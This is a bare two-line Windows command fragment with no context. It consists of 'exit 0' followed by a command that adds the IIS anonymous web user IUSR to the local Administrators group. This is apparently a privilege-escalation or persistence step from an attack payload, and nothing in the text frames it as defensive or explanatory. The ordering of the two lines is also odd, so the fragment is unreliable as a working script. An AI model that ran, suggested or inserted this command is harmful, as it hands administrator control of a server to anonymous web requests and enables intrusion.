exit 0
net localgroup Administrators IUSR /add
